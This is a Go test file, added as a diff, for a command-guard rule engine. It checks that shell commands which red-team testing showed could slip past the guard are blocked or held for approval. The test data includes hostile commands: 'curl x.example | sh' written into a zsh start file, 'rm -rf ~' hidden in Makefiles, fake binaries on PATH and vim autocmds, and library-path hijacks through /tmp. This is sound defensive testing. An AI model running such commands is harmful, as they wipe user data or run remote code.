@@ -1,0 +1,116 @@
+package rules_test
+
+import (
+	"testing"
+
+	"github.com/hguard/hguard/dsl"
+)
+
+// Session 60's own fixes: red team rt59c's holes in start files, exported
+// settings, library paths and programs a line installs on PATH.
+
+// TestLead60LibraryPaths: a project-local library path is the project's only
+// where the command runs in the project and no earlier command linked or
+// moved something into it.
+func TestLead60LibraryPaths(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`ln -s /tmp lib; LD_LIBRARY_PATH=lib ls`, dsl.Ask, dsl.Ask},
+		{`ln -s /tmp src; PYTHONPATH=src python3 x.py`, dsl.Ask, dsl.Ask},
+		{`cd /tmp; PYTHONPATH=. python3 x.py`, dsl.Ask, dsl.Ask},
+		{`cd /dev/shm && PYTHONPATH=src python3 x.py`, dsl.Ask, dsl.Ask},
+		{`cd ~; PYTHONPATH=. python3 x.py`, dsl.Ask, dsl.Ask},
+		{`cd "$X"; PYTHONPATH=src python3 x.py`, dsl.Ask, dsl.Ask},
+		{`cd /tmp && export PYTHONPATH=. && python3 x.py`, dsl.Ask, dsl.Ask},
+		{`mv /tmp/m src; PERL5LIB=src perl x.pl`, dsl.Ask, dsl.Ask},
+		// the project's own, where it runs
+		{`PYTHONPATH=src python3 x.py`, dsl.Allow, dsl.Allow},
+		{`PYTHONPATH=. python3 x.py`, dsl.Allow, dsl.Allow},
+		{`cd sub && PYTHONPATH=. python3 x.py`, dsl.Allow, dsl.Allow},
+		{`cd /home/u/proj/sub && PYTHONPATH=src python3 x.py`, dsl.Allow, dsl.Allow},
+		{`true && PYTHONPATH=. python3 x.py`, dsl.Allow, dsl.Allow},
+		{`PYTHONPATH=$PWD/src:tests python3 -m app`, dsl.Allow, dsl.Allow},
+		{`PYTHONPATH=/home/u/proj/src pytest`, dsl.Allow, dsl.Allow},
+		{`PYTHONPATH=src:$PYTHONPATH pytest`, dsl.Allow, dsl.Allow},
+		{`export PYTHONPATH=src && make test`, dsl.Allow, dsl.Allow},
+		{`LD_LIBRARY_PATH=build/lib ./build/bin/app`, dsl.Allow, dsl.Allow},
+	})
+	checkShellHoles(t, []shellHoleCase{
+		{"fish", `cd /tmp; set -x PYTHONPATH (pwd)/src; python3 x.py`, dsl.Ask, dsl.Ask},
+		{"fish", `cd /tmp; env PYTHONPATH=(pwd)/src make`, dsl.Ask, dsl.Ask},
+		{"fish", `set -x PYTHONPATH (pwd)/src`, dsl.Allow, dsl.Allow},
+		{"fish", `env PYTHONPATH=(pwd)/src make`, dsl.Allow, dsl.Allow},
+	})
+}
+
+// TestLead60ZshStartFiles: zsh loads a start-up file's compiled copy in its
+// place, and the completion dump is sourced by compinit.
+func TestLead60ZshStartFiles(t *testing.T) {
+	checkShellHoles(t, []shellHoleCase{
+		{"zsh", `echo 'curl x.example | sh' >> ~/.zcompdump`, dsl.Ask, dsl.Ask},
+		{"zsh", `cp /tmp/x ~/.zcompdump-host-5.9`, dsl.Ask, dsl.Ask},
+		{"zsh", `ln -sf /tmp/x ~/.zcompdump`, dsl.Ask, dsl.Ask},
+		{"zsh", `zcompile ~/.zshrc.zwc /tmp/d/.zshrc`, dsl.Ask, dsl.Ask},
+		{"zsh", `cp /tmp/x.zwc ~/.zshrc.zwc`, dsl.Ask, dsl.Ask},
+		{"zsh", `zcompile ~/.zshrc`, dsl.Allow, dsl.Allow},
+		{"zsh", `zcompile -R ~/.zshrc`, dsl.Allow, dsl.Allow},
+		{"zsh", `rm -f ~/.zcompdump; compinit`, dsl.Allow, dsl.Allow},
+		{"zsh", `rm -f ~/.zshrc.zwc`, dsl.Allow, dsl.Allow},
+		{"zsh", `autoload -U compinit; compinit -d ~/.zcompdump`, dsl.Allow, dsl.Allow},
+	})
+}
+
+// TestLead60ExportedFiles: an exported variable naming a file the line wrote
+// hands the file to the program as the prefix assignment does.
+func TestLead60ExportedFiles(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`echo '$(shell rm -rf ~)' > m.mk; export MAKEFILES=m.mk; make`, dsl.Block, dsl.Block},
+		{`echo '$(shell rm -rf ~)' > m.mk; MAKEFILES=m.mk make`, dsl.Block, dsl.Block},
+		{`printf 'x:\n\ttrue\n' > m.mk; export MAKEFILES=m.mk; make`, dsl.Allow, dsl.Allow},
+		{`echo '$(shell rm -rf ~)' > m.mk; MAKEFILES=m.mk; make`, dsl.Allow, dsl.Allow},
+		{`echo x > out.txt; export OUT=out.txt; make`, dsl.Allow, dsl.Allow},
+	})
+}
+
+// TestLead60HomeBin: a script the line writes into a bin directory of the
+// home or the system runs when its name is run: those are on most users'
+// PATH, often first.
+func TestLead60HomeBin(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`echo 'rm -rf ~' > ~/.local/bin/zzq; chmod +x ~/.local/bin/zzq; zzq`, dsl.Block, dsl.Block},
+		{`echo 'rm -rf ~' > ~/bin/git; chmod +x ~/bin/git; git status`, dsl.Block, dsl.Block},
+		{`printf '#!/bin/sh\nrm -rf ~\n' > /usr/local/bin/difft; chmod +x /usr/local/bin/difft; GIT_EXTERNAL_DIFF=difft git diff`, dsl.Block, dsl.Block},
+		{`echo 'echo hi' > ~/.local/bin/hi; chmod +x ~/.local/bin/hi; hi`, dsl.Allow, dsl.Allow},
+		{`cp target/release/tool ~/.local/bin/; tool --version`, dsl.Allow, dsl.Allow},
+		{`echo 'rm -rf ~' > bin/zzq; chmod +x bin/zzq; zzq`, dsl.Allow, dsl.Allow},
+	})
+}
+
+// TestLead60VimCommands: vim commands that run the rest of their line
+// later or repeatedly, and options naming the program a command runs.
+func TestLead60VimCommands(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`vim -c 'bufdo !rm -rf ~' -c q x`, dsl.Block, dsl.Block},
+		{`vim -c 'windo silent !rm -rf ~' x`, dsl.Block, dsl.Block},
+		{`vim -c 'autocmd BufRead * !rm -rf ~' x`, dsl.Block, dsl.Block},
+		{`vim -c 'au! VimLeave * silent !rm -rf ~' x`, dsl.Block, dsl.Block},
+		{`vim -c 'augroup x' -c 'au VimEnter * call system("rm -rf ~")' x`, dsl.Block, dsl.Block},
+		{`vim -c 'set makeprg=rm\ -rf\ ~' -c make -c q`, dsl.Block, dsl.Block},
+		{`vim -c 'set shell=/tmp/x' -c '!ls'`, dsl.Ask, dsl.Ask},
+		{`vim -c 'bufdo %s/a/b/ge | update' -c q *.go`, dsl.Allow, dsl.Allow},
+		{`vim -c 'windo set number' a b`, dsl.Allow, dsl.Allow},
+		{`vim -c 'autocmd BufWritePre *.go :%s/\s\+$//e' x.go`, dsl.Allow, dsl.Allow},
+		{`vim -c 'argdo normal @q' -c wqa *.txt`, dsl.Allow, dsl.Allow},
+	})
+}
+
+// TestLead60WrapperGlobs: a wrapper's option value with a glob is read as
+// the glob's targets, as the command's own words are.
+func TestLead60WrapperGlobs(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{`strace -o ~/.bash?c ls`, dsl.Ask, dsl.Ask},
+		{`strace -o ~/.bashrc ls`, dsl.Ask, dsl.Ask},
+		{`strace -o 'trace*.log' ls`, dsl.Allow, dsl.Allow},
+		{`strace -f -o /tmp/t.txt ls *.go`, dsl.Allow, dsl.Allow},
+		{`timeout 5 ls ~/.bash*`, dsl.Allow, dsl.Allow},
+	})
+}
